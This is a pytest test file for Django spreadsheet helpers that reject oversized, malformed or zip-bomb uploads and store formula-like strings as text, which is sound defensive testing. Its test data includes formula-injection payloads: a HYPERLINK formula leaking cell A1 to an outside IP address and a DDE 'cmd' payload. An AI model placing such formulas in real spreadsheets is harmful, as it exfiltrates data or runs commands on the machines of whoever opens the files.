"""Excel helpers: uploads refused before parsing, strings never formulas, rows read as text.

No database.
"""

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from aftercare.spreadsheets import (
    DUPLICATE_HEADER_MESSAGE,
    FILE_TOO_LARGE_MESSAGE,
    MAX_UPLOAD_BYTES,
    NOT_XLSX_MESSAGE,
    SHEET_NOT_FOUND_MESSAGE,
    TOO_MANY_PARTS_MESSAGE,
    UNCOMPRESSED_TOO_LARGE_MESSAGE,
    check_xlsx_upload,
    new_workbook,
    read_rows,
    set_cell_value,
    workbook_bytes,
    write_row,
)

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_LIKE_TEXTS = [
    "=1+1",
    '=HYPERLINK("http://198.51.100.7/?leak="&A1,"点击查看")',
    "+8613800138000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "#N/A",
    "=cmd|' /C calc'!A0",
]


def upload(content: bytes, name: str = "名单.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=XLSX_CONTENT_TYPE)


def xlsx_bytes(*rows: list[object], title: str = "名单") -> bytes:
    workbook = new_workbook()
    worksheet = workbook.create_sheet(title)
    for row in rows:
        write_row(worksheet, row)
    return workbook_bytes(workbook)


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def rejection(uploaded_file) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_xlsx_upload(uploaded_file)
    return caught.value


# Uploads


def test_a_valid_workbook_passes_and_is_left_at_the_start():
    uploaded_file = upload(xlsx_bytes(["姓名"], ["王小明"]))
    uploaded_file.read(10)

    check_xlsx_upload(uploaded_file)

    assert uploaded_file.tell() == 0


def test_a_file_over_10_mb_is_refused_before_it_is_opened_as_a_zip():
    uploaded_file = upload(b"\0" * (MAX_UPLOAD_BYTES + 1))

    error = rejection(uploaded_file)

    assert error.messages == ["文件超过 10 MB，请拆分后再上传。"]
    assert error.messages == [str(FILE_TOO_LARGE_MESSAGE)]


def test_the_reported_upload_size_is_trusted_without_reading_the_file():
    uploaded_file = upload(xlsx_bytes(["姓名"]))
    uploaded_file.size = MAX_UPLOAD_BYTES + 1

    assert rejection(uploaded_file).messages == [str(FILE_TOO_LARGE_MESSAGE)]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,  # an old .xls (OLE) or encrypted workbook
        "姓名,班级\n王小明,三年级二班\n".encode(),
        b"PK\x03\x04 truncated",
    ],
    ids=["empty", "xls", "csv", "broken-zip"],
)
def test_a_file_that_is_not_a_zip_is_refused(content):
    assert rejection(upload(content)).messages == [str(NOT_XLSX_MESSAGE)]


@pytest.mark.parametrize(
    "entries",
    [
        {"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"},
        {"xl/workbook.xml": b"<workbook/>"},
    ],
    ids=["no-workbook", "no-content-types"],
)
def test_a_zip_that_is_not_a_workbook_is_refused(entries):
    assert rejection(upload(zip_bytes(entries))).messages == [str(NOT_XLSX_MESSAGE)]


def test_a_workbook_with_more_than_1000_parts_is_refused():
    entries = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
    entries.update({f"xl/media/image{number}.png": b"" for number in range(999)})

    assert rejection(upload(zip_bytes(entries))).messages == [str(TOO_MANY_PARTS_MESSAGE)]


def test_a_workbook_with_exactly_1000_parts_passes():
    entries = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
    entries.update({f"xl/media/image{number}.png": b"" for number in range(998)})

    check_xlsx_upload(upload(zip_bytes(entries)))


def test_a_workbook_that_inflates_past_50_mb_is_refused_from_its_zip_directory():
    entries = {
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b"<workbook/>",
        "xl/worksheets/sheet1.xml": b" " * (50 * 1024 * 1024),
    }
    content = zip_bytes(entries)
    assert len(content) < 100 * 1024  # highly compressible: small on the wire

    assert rejection(upload(content)).messages == [str(UNCOMPRESSED_TOO_LARGE_MESSAGE)]


# Writing


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_formula_like_strings_are_written_as_text(write_only):
    workbook = new_workbook(write_only=write_only)
    worksheet = workbook.create_sheet("名单")

    write_row(worksheet, FORMULA_LIKE_TEXTS)
    content = workbook_bytes(workbook)

    cells = next(load_workbook(io.BytesIO(content))["名单"].iter_rows())
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULA_LIKE_TEXTS)
    assert [cell.value for cell in cells] == FORMULA_LIKE_TEXTS
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_numbers_decimals_dates_and_booleans_keep_their_types(write_only):
    workbook = new_workbook(write_only=write_only)
    worksheet = workbook.create_sheet("课时费")
    paid_at = datetime.datetime(2025, 9, 30, 8, 15, tzinfo=datetime.UTC)

    write_row(worksheet, [3, Decimal("120.50"), datetime.date(2025, 9, 1), True, None, paid_at, "三年级"])

    cells = next(load_workbook(io.BytesIO(workbook_bytes(workbook)))["课时费"].iter_rows())
    assert [cell.value for cell in cells] == [
        3,
        120.5,
        datetime.datetime(2025, 9, 1),
        True,
        None,
        datetime.datetime(2025, 9, 30, 16, 15),  # Asia/Shanghai
        "三年级",
    ]
    assert [cell.data_type for cell in cells] == ["n", "n", "d", "b", "n", "d", "s"]


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_styled_cells_and_lazy_translations_are_written_as_text(write_only):
    workbook = new_workbook(write_only=write_only)
    worksheet = workbook.create_sheet("名单")
    header = WriteOnlyCell(worksheet, value="=姓名")
    header.font = Font(bold=True)

    write_row(worksheet, [header, gettext_lazy("班级")])

    cells = next(load_workbook(io.BytesIO(workbook_bytes(workbook)))["名单"].iter_rows())
    assert [(cell.value, cell.data_type) for cell in cells] == [("=姓名", "s"), ("班级", "s")]
    assert cells[0].font.b is True


def test_set_cell_value_stores_a_formula_like_string_as_text():
    worksheet = Workbook().active

    cell = set_cell_value(worksheet["B2"], "=1+1")

    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_text_that_xml_cannot_hold_is_cleaned_rather_than_failing_the_export():
    workbook = new_workbook()
    worksheet = workbook.create_sheet("名单")

    write_row(worksheet, ["王\x01小明", "\r=1+1", "第一行\r\n第二行"])

    cells = next(load_workbook(io.BytesIO(workbook_bytes(workbook)))["名单"].iter_rows())
    assert [(cell.value, cell.data_type) for cell in cells] == [
        ("王小明", "s"),
        ("\n=1+1", "s"),
        ("第一行\n第二行", "s"),
    ]


def test_new_workbook_starts_without_sheets():
    assert new_workbook().sheetnames == []
    assert new_workbook(write_only=True).sheetnames == []


# Reading


def test_read_rows_yields_excel_row_numbers_and_stripped_text():
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.title = "名单"
    worksheet.append([" 姓名 ", "班级", "人数", "入学日期", None, "备注"])
    worksheet.append(["  王小明 ", "三年级二班", 3, datetime.date(2025, 9, 1), "无表头", "=A2&B2"])
    worksheet.append([None, None, None])
    worksheet.append(["李晓红", "三年级二班", 2.5])
    content = workbook_bytes(workbook)

    rows = list(read_rows(upload(content)))

    assert rows == [
        (
            2,
            {"姓名": "王小明", "班级": "三年级二班", "人数": "3", "入学日期": "2025-09-01", "备注": "=A2&B2"},
        ),
        (4, {"姓名": "李晓红", "班级": "三年级二班", "人数": "2.5", "入学日期": "", "备注": ""}),
    ]


def test_read_rows_reads_written_formula_like_text_back_unchanged():
    content = xlsx_bytes(["备注"], *[[text] for text in FORMULA_LIKE_TEXTS])

    rows = list(read_rows(io.BytesIO(content)))

    assert rows == [
        (number, {"备注": text.strip()}) for number, text in enumerate(FORMULA_LIKE_TEXTS, start=2)
    ]


def test_read_rows_takes_a_named_sheet_and_a_later_header_row():
    workbook = new_workbook()
    write_row(workbook.create_sheet("说明"), ["请填写第二个工作表"])
    worksheet = workbook.create_sheet("名单")
    write_row(worksheet, ["三年级二班课后服务名单"])
    write_row(worksheet, ["姓名"])
    write_row(worksheet, ["王小明"])

    rows = list(read_rows(io.BytesIO(workbook_bytes(workbook)), sheet="名单", header_row=2))

    assert rows == [(3, {"姓名": "王小明"})]


def test_read_rows_refuses_a_missing_sheet():
    with pytest.raises(ValidationError) as caught:
        list(read_rows(io.BytesIO(xlsx_bytes(["姓名"])), sheet="考勤"))

    assert caught.value.messages == [SHEET_NOT_FOUND_MESSAGE % {"sheet": "考勤"}]
    assert caught.value.messages == ["工作簿中没有名为“考勤”的工作表。"]


def test_read_rows_refuses_a_duplicated_header():
    content = xlsx_bytes(["姓名", "班级", "姓名"], ["王小明", "三年级二班", "李晓红"])

    with pytest.raises(ValidationError) as caught:
        list(read_rows(io.BytesIO(content)))

    assert caught.value.messages == [DUPLICATE_HEADER_MESSAGE % {"header": "姓名"}]


def test_read_rows_checks_the_upload_before_opening_it():
    with pytest.raises(ValidationError) as caught:
        list(read_rows(upload(b"not a workbook")))

    assert caught.value.messages == [str(NOT_XLSX_MESSAGE)]
